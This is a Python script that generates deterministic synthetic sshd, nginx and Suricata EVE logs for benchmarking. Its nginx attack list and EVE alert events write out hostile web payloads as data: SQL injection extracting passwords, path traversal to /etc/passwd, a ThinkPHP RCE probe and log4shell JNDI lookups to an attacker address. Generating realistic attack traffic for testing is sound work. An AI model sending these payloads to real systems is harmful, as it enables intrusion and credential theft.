#!/usr/bin/env python3
"""bench/gen_logs.py - deterministic benchmark inputs.

    python3 bench/gen_logs.py [--lines N] [--seed S] [--only sshd,nginx,eve] OUTDIR

writes OUTDIR/sshd.log, OUTDIR/nginx.log and OUTDIR/eve.json, N lines each
(default 1,000,000), from a fixed seed: the same arguments give the same
bytes on every machine, so results from different runs compare.

- sshd.log: syslog lines from sshd on a few hosts, an Internet-facing mix
  dominated by password guessing (failed password, invalid user, preauth
  disconnects) with the accepted logins and PAM session lines around them;
  IPv4 and some IPv6 sources, varied users and ports.
- nginx.log: nginx "combined" access lines: pages, assets and API calls from
  browsers, bots and scanners, about 2% attack requests (SQL injection, path
  traversal, log4shell, probing for admin pages and leaked files).
- eve.json: Suricata EVE JSON lines mixing flow, dns, http, tls and alert
  events with the fields Suricata 6/7 writes for each.
"""
import argparse
import json
import os
import random
import sys

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
# 2026-11-21 00:00:00 +07:00 as seconds since the epoch.
T0 = 1795194000
TZ = 7 * 3600


def civil(t):
    """(year, month, day, hh, mm, ss) of local time t (days since epoch arithmetic)."""
    t += TZ
    days, rem = divmod(t, 86400)
    hh, rem = divmod(rem, 3600)
    mm, ss = divmod(rem, 60)
    # Howard Hinnant's days_from_civil inverse.
    z = days + 719468
    era = z // 146097
    doe = z - era * 146097
    yoe = (doe - doe // 1460 + doe // 36524 - doe // 146096) // 365
    y = yoe + era * 400
    doy = doe - (365 * yoe + yoe // 4 - yoe // 100)
    mp = (5 * doy + 2) // 153
    d = doy - (153 * mp + 2) // 5 + 1
    m = mp + 3 if mp < 10 else mp - 9
    return (y + (m <= 2), m, d, hh, mm, ss)


class Clock:
    """A clock that advances a little per line; formats are cached per second."""

    def __init__(self, rng, step_max):
        self.rng = rng
        self.t = T0
        self.frac = 0
        self.step_max = step_max
        self._sec = None
        self._parts = None

    def tick(self):
        self.frac += self.rng.randint(0, self.step_max)
        if self.frac >= 1000:
            self.t += self.frac // 1000
            self.frac %= 1000
        if self._sec != self.t:
            self._sec = self.t
            self._parts = civil(self.t)
        return self._parts


def ipv4_pool(rng, n, private=False):
    pool = []
    for _ in range(n):
        if private:
            pool.append("10.%d.%d.%d" % (rng.randint(0, 40), rng.randint(0, 255), rng.randint(1, 254)))
        else:
            a = rng.choice([5, 23, 31, 37, 45, 46, 61, 77, 80, 85, 89, 91, 92, 103, 104, 109, 112,
                            113, 116, 117, 118, 122, 123, 139, 141, 147, 152, 159, 162, 171, 175,
                            176, 178, 180, 182, 185, 188, 191, 193, 194, 195, 196, 198, 203, 212, 213,
                            217, 218, 220, 221, 222, 223])
            pool.append("%d.%d.%d.%d" % (a, rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254)))
    return pool


def ipv6_pool(rng, n):
    return ["2001:%x:%x:%x::%x" % (rng.choice([0xdb8, 0x470, 0x41d0, 0x67c, 0xee0]), rng.randint(0, 0xffff),
                                   rng.randint(0, 0xffff), rng.randint(1, 0xffff)) for _ in range(n)]


# ---------------------------------------------------------------- sshd
GUESS_USERS = ["root"] * 12 + [
    "admin", "test", "user", "oracle", "ubuntu", "postgres", "git", "guest", "ftpuser", "pi",
    "support", "mysql", "deploy", "jenkins", "hadoop", "minecraft", "tomcat", "ansible", "debian",
    "centos", "nagios", "zabbix", "elastic", "vagrant", "www-data", "steam", "teamspeak", "odoo",
    "dev", "demo", "sysadmin", "server", "backup", "web", "ubnt", "usuario", "administrator",
    "a", "123", "kafka", "es", "solr", "redis", "docker", "k8s", "nvidia", "ts3", "csgo",
]
REAL_USERS = ["deploy", "alice", "bob", "ops", "nguyen.van.an", "tran.thi.binh", "backup", "ansible"]
HOSTS = ["web01", "web02", "bastion", "db01", "mail", "vpn-gw"]
KEYTYPES = [("RSA", 43), ("ED25519", 43), ("ECDSA", 43)]
B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def gen_sshd(rng, n, out):
    clock = Clock(rng, 900)
    attackers = ipv4_pool(rng, 6000) + ipv6_pool(rng, 300)
    internal = ipv4_pool(rng, 200, private=True)
    keys = ["".join(rng.choice(B64) for _ in range(43)) for _ in range(64)]
    pid = 12000
    kinds = [
        (25, "fail_root"), (20, "fail_invalid"), (15, "invalid"), (8, "disc_auth"), (7, "disc_invalid"),
        (7, "recv_disc"), (6, "closed"), (5, "acc_key"), (2, "acc_pw"), (3, "sess_open"), (2, "pam_fail"),
    ]
    table = []
    for w, k in kinds:
        table += [k] * w
    w = out.write
    for _ in range(n):
        y, m, d, hh, mm, ss = clock.tick()
        if rng.random() < 0.3:
            pid += rng.randint(1, 7)
        host = HOSTS[rng.randint(0, len(HOSTS) - 1)]
        ip = attackers[rng.randint(0, len(attackers) - 1)]
        port = rng.randint(1024, 65535)
        k = table[rng.randint(0, len(table) - 1)]
        if k == "fail_root":
            msg = "Failed password for root from %s port %d ssh2" % (ip, port)
        elif k == "fail_invalid":
            msg = "Failed password for invalid user %s from %s port %d ssh2" % (rng.choice(GUESS_USERS), ip, port)
        elif k == "invalid":
            msg = "Invalid user %s from %s port %d" % (rng.choice(GUESS_USERS), ip, port)
        elif k == "disc_auth":
            msg = "Disconnected from authenticating user %s %s port %d [preauth]" % (rng.choice(GUESS_USERS[:14]), ip, port)
        elif k == "disc_invalid":
            msg = "Disconnected from invalid user %s %s port %d [preauth]" % (rng.choice(GUESS_USERS), ip, port)
        elif k == "recv_disc":
            msg = "Received disconnect from %s port %d:11: %s [preauth]" % (
                ip, port, rng.choice(["Bye Bye", "Normal Shutdown, Thank you for playing", "disconnected by user"]))
        elif k == "closed":
            msg = "Connection closed by %s port %d [preauth]" % (ip, port)
        elif k == "acc_key":
            kt, _ = rng.choice(KEYTYPES)
            msg = "Accepted publickey for %s from %s port %d ssh2: %s SHA256:%s" % (
                rng.choice(REAL_USERS), rng.choice(internal), port, kt, rng.choice(keys))
        elif k == "acc_pw":
            msg = "Accepted password for %s from %s port %d ssh2" % (rng.choice(REAL_USERS), rng.choice(internal), port)
        elif k == "sess_open":
            msg = "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (
                rng.choice(REAL_USERS), rng.randint(1000, 1010))
        else:
            msg = ("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
                   "rhost=%s  user=root" % ip)
        w("%s %2d %02d:%02d:%02d %s sshd[%d]: %s\n" % (MONTHS[m - 1], d, hh, mm, ss, host, pid, msg))


# ---------------------------------------------------------------- nginx
PAGES = ["/", "/index.html", "/tin-tuc", "/tin-tuc/thong-bao-%d", "/gioi-thieu", "/lien-he", "/van-ban/%d",
         "/search?q=%s", "/dich-vu-cong/ho-so/%d", "/en/news/%d", "/sitemap.xml", "/robots.txt"]
ASSETS = ["/static/css/app.%x.css", "/static/js/app.%x.js", "/static/js/vendor.%x.js", "/images/banner-%d.jpg",
          "/images/logo.png", "/favicon.ico", "/fonts/roboto-%d.woff2"]
API = ["/api/v1/news?page=%d", "/api/v1/login", "/api/v1/session", "/api/v1/documents/%d", "/api/v1/search?q=%s"]
WORDS = ["thong+bao", "ke+hoach", "bao+cao", "an+toan+thong+tin", "chuyen+doi+so", "tuyen+dung", "covid", "hoc+phi"]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 13; SM-A536E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; coccocbot-web/1.0; +http://help.coccoc.com/searchengine)",
    "curl/8.4.0", "python-requests/2.31.0", "Go-http-client/1.1",
]
ATTACKS = [
    ("GET", "/news.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    ("GET", "/van-ban/1%20AND%20SLEEP(5)", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    ("GET", "/search?q=%27%20OR%201=1--", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"),
    ("GET", "/download.php?file=../../../../etc/passwd", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
    ("GET", "/..%2f..%2f..%2f..%2fetc/passwd", "Mozilla/5.0 zgrab/0.x"),
    ("GET", "/?x=${jndi:ldap://%s:1389/Exploit}", "${jndi:ldap://%s:1389/a}"),
    ("GET", "/.env", "Mozilla/5.0 (l9scan/2.0.3)"),
    ("GET", "/.git/config", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"),
    ("GET", "/wp-login.php", "Mozilla/5.0 zgrab/0.x"),
    ("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "Mozilla/5.0 (X11; Linux x86_64)"),
    ("GET", "/phpmyadmin/index.php", "Mozilla/5.0 (compatible; Nikto/2.5.0)"),
    ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP", "Mozilla/5.0"),
]


def gen_nginx(rng, n, out):
    clock = Clock(rng, 60)
    clients = ipv4_pool(rng, 20000) + ipv6_pool(rng, 2000)
    scanners = ipv4_pool(rng, 300)
    w = out.write
    for _ in range(n):
        y, m, d, hh, mm, ss = clock.tick()
        ts = "%02d/%s/%d:%02d:%02d:%02d +0700" % (d, MONTHS[m - 1], y, hh, mm, ss)
        user = "-"
        r = rng.random()
        if r < 0.02:
            method, path, ua = rng.choice(ATTACKS)
            ip = rng.choice(scanners)
            if "%s" in path:
                path = path % ip
            if "%s" in ua:
                ua = ua % ip
            status = rng.choice([200, 400, 403, 404, 404, 404, 500])
            size = rng.randint(0, 2000) if status != 404 else 153
            ref = "-"
        else:
            ip = clients[rng.randint(0, len(clients) - 1)]
            ua = UAS[rng.randint(0, len(UAS) - 1)]
            if r < 0.45:
                path = rng.choice(ASSETS)
                path = path % rng.randint(0, 0xfffff) if "%" in path else path
                method = "GET"
                status = 304 if rng.random() < 0.3 else 200
                size = 0 if status == 304 else rng.randint(800, 400000)
            elif r < 0.60:
                path = rng.choice(API)
                if "%s" in path:
                    path = path % rng.choice(WORDS)
                elif "%d" in path:
                    path = path % rng.randint(1, 5000)
                method = "POST" if path.endswith(("login", "session")) else "GET"
                status = rng.choice([200, 200, 200, 201, 401, 403, 429]) if method == "POST" else 200
                size = rng.randint(40, 30000)
                if rng.random() < 0.05:
                    user = rng.choice(REAL_USERS)
            else:
                path = rng.choice(PAGES)
                if "%s" in path:
                    path = path % rng.choice(WORDS)
                elif "%d" in path:
                    path = path % rng.randint(1, 20000)
                method = "HEAD" if rng.random() < 0.01 else "GET"
                status = rng.choice([200] * 18 + [301, 404, 500])
                size = rng.randint(3000, 90000) if status == 200 else rng.randint(150, 600)
            ref = "-" if rng.random() < 0.4 else "https://portal.example.gov.vn" + rng.choice(PAGES[:3])
        proto = "HTTP/2.0" if rng.random() < 0.6 else "HTTP/1.1"
        w('%s - %s [%s] "%s %s %s" %d %d "%s" "%s"\n' % (ip, user, ts, method, path, proto, status, size, ref, ua))


# ---------------------------------------------------------------- EVE
SIGS = [
    (2001219, 20, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, 22, "TCP", "ssh"),
    (2034647, 2, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1, 80, "TCP", "http"),
    (2006546, 8, "ET SCAN LibSSH Based Frequent SSH Connections Likely BruteForce Attack", "Attempted Administrator Privilege Gain", 1, 22, "TCP", "ssh"),
    (2024897, 4, "ET USER_AGENTS Go HTTP Client User-Agent", "Potentially Bad Traffic", 2, 443, "TCP", "tls"),
    (2027865, 3, "ET INFO Observed DNS Query to .cloud TLD", "Potentially Bad Traffic", 2, 53, "UDP", "dns"),
    (2010935, 3, "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 2, 1433, "TCP", None),
    (2402000, 6811, "ET DROP Dshield Block Listed Source", "Misc Attack", 2, 445, "TCP", None),
    (2100498, 7, "GPL ATTACK_RESPONSE id check returned root", "Potentially Bad Traffic", 2, 80, "TCP", "http"),
]
DOMAINS = ["portal.example.gov.vn", "mail.example.gov.vn", "www.google.com", "update.microsoft.com", "cdn.jsdelivr.net",
           "api.github.com", "zalo.me", "vnexpress.net", "dichvucong.gov.vn", "ocsp.digicert.com",
           "c2.badupdate-cdn.net", "x7f3a9.duckdns.org", "time.windows.com", "ntp.ubuntu.com"]
RRTYPES = ["A", "A", "A", "AAAA", "CNAME", "TXT", "MX", "PTR"]


def eve_ts(clock):
    y, m, d, hh, mm, ss = clock.tick()
    return "%d-%02d-%02dT%02d:%02d:%02d.%06d+0700" % (y, m, d, hh, mm, ss, clock.frac * 1000 + clock.rng.randint(0, 999))


def gen_eve(rng, n, out):
    clock = Clock(rng, 40)
    inside = ipv4_pool(rng, 800, private=True)
    outside = ipv4_pool(rng, 15000)
    table = ["flow"] * 35 + ["dns"] * 25 + ["http"] * 15 + ["tls"] * 15 + ["alert"] * 10
    dumps = json.JSONEncoder(separators=(",", ":"), ensure_ascii=False).encode
    w = out.write
    for _ in range(n):
        et = table[rng.randint(0, 99)]
        ev = {"timestamp": eve_ts(clock), "flow_id": rng.randint(10 ** 14, 2 * 10 ** 15), "in_iface": "ens3",
              "event_type": et}
        src, dst = rng.choice(inside), rng.choice(outside)
        if rng.random() < 0.3:
            src, dst = dst, src
        sport = rng.randint(1024, 65535)
        if et == "dns":
            ev.update({"src_ip": src, "src_port": sport, "dest_ip": "10.20.0.2", "dest_port": 53, "proto": "UDP"})
            q = rng.choice(DOMAINS)
            if rng.random() < 0.5:
                ev["dns"] = {"type": "query", "id": rng.randint(0, 65535), "rrname": q,
                             "rrtype": rng.choice(RRTYPES), "tx_id": 0, "opcode": 0}
            else:
                ev["dns"] = {"version": 2, "type": "answer", "id": rng.randint(0, 65535), "flags": "8180",
                             "qr": True, "rd": True, "ra": True, "opcode": 0, "rrname": q, "rrtype": "A",
                             "rcode": "NOERROR",
                             "answers": [{"rrname": q, "rrtype": "A", "ttl": rng.randint(30, 3600),
                                          "rdata": rng.choice(outside)}],
                             "grouped": {"A": [rng.choice(outside)]}}
        else:
            port = {"http": 80, "tls": 443}.get(et, rng.choice([22, 25, 53, 80, 123, 443, 445, 3306, 3389, 8080]))
            proto = "UDP" if port in (53, 123) else "TCP"
            ev.update({"src_ip": src, "src_port": sport, "dest_ip": dst, "dest_port": port, "proto": proto})
            if et == "flow":
                app = {80: "http", 443: "tls", 22: "ssh", 53: "dns", 25: "smtp", 445: "smb"}.get(port)
                if app:
                    ev["app_proto"] = app
                pts, ptc = rng.randint(1, 200), rng.randint(0, 300)
                ev["flow"] = {"pkts_toserver": pts, "pkts_toclient": ptc, "bytes_toserver": pts * rng.randint(60, 900),
                              "bytes_toclient": ptc * rng.randint(60, 1400), "start": eve_ts(clock),
                              "end": eve_ts(clock), "age": rng.randint(0, 120),
                              "state": rng.choice(["closed", "established", "new"]),
                              "reason": rng.choice(["timeout", "timeout", "shutdown"]), "alerted": False}
                if proto == "TCP":
                    ev["tcp"] = {"tcp_flags": "1b", "tcp_flags_ts": "1b", "tcp_flags_tc": "1b", "syn": True,
                                 "fin": True, "psh": True, "ack": True, "state": "closed"}
            elif et == "http":
                ev["tx_id"] = rng.randint(0, 5)
                host = rng.choice(DOMAINS[:10])
                ev["http"] = {"hostname": host, "url": rng.choice(PAGES[:3] + ASSETS[-2:]),
                              "http_user_agent": rng.choice(UAS), "http_content_type": "text/html",
                              "http_method": rng.choice(["GET"] * 9 + ["POST"]), "protocol": "HTTP/1.1",
                              "status": rng.choice([200] * 8 + [301, 404]), "length": rng.randint(0, 90000)}
            elif et == "tls":
                host = rng.choice(DOMAINS)
                ev["tls"] = {"subject": "CN=" + host, "issuerdn": "C=US, O=Let's Encrypt, CN=R3",
                             "serial": ":".join("%02X" % rng.randint(0, 255) for _ in range(16)),
                             "fingerprint": ":".join("%02x" % rng.randint(0, 255) for _ in range(20)),
                             "sni": host, "version": rng.choice(["TLS 1.2", "TLS 1.3"]),
                             "notbefore": "2026-09-01T00:00:00", "notafter": "2026-11-30T23:59:59",
                             "ja3": {"hash": "%032x" % rng.getrandbits(128)},
                             "ja3s": {"hash": "%032x" % rng.getrandbits(128)}}
            else:
                sid, rev, sig, cat, sev, dport, proto2, app = rng.choice(SIGS)
                attacker = rng.choice(outside)
                ev.update({"src_ip": attacker, "dest_ip": rng.choice(inside), "dest_port": dport, "proto": proto2})
                if app:
                    ev["app_proto"] = app
                ev["alert"] = {"action": "allowed", "gid": 1, "signature_id": sid, "rev": rev, "signature": sig,
                               "category": cat, "severity": sev,
                               "metadata": {"created_at": ["2021_12_10"], "updated_at": ["2026_10_02"]}}
                ev["flow"] = {"pkts_toserver": rng.randint(1, 9), "pkts_toclient": rng.randint(0, 9),
                              "bytes_toserver": rng.randint(60, 5000), "bytes_toclient": rng.randint(0, 5000),
                              "start": ev["timestamp"]}
                if app == "http":
                    ev["http"] = {"hostname": "portal.example.gov.vn",
                                  "url": "/?x=${jndi:ldap://%s:1389/Exploit}" % attacker,
                                  "http_user_agent": "${jndi:ldap://%s:1389/a}" % attacker,
                                  "http_method": "GET", "protocol": "HTTP/1.1", "status": 200, "length": 5120}
        w(dumps(ev))
        w("\n")


GENERATORS = {"sshd": ("sshd.log", gen_sshd), "nginx": ("nginx.log", gen_nginx), "eve": ("eve.json", gen_eve)}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("outdir")
    ap.add_argument("--lines", type=int, default=1000000)
    ap.add_argument("--seed", type=int, default=20261121)
    ap.add_argument("--only", default="sshd,nginx,eve")
    args = ap.parse_args()
    os.makedirs(args.outdir, exist_ok=True)
    for i, kind in enumerate(args.only.split(",")):
        if kind not in GENERATORS:
            sys.exit("gen_logs.py: unknown kind %r (sshd, nginx, eve)" % kind)
        name, fn = GENERATORS[kind]
        # One stream per kind, so generating one kind alone gives the same bytes.
        rng = random.Random("%d:%s" % (args.seed, kind))
        path = os.path.join(args.outdir, name)
        tmp = path + ".tmp"
        with open(tmp, "w", encoding="utf-8", newline="\n", buffering=1 << 20) as out:
            fn(rng, args.lines, out)
        os.replace(tmp, path)
        print("gen_logs.py: %s: %d lines" % (path, args.lines), file=sys.stderr)


if __name__ == "__main__":
    main()
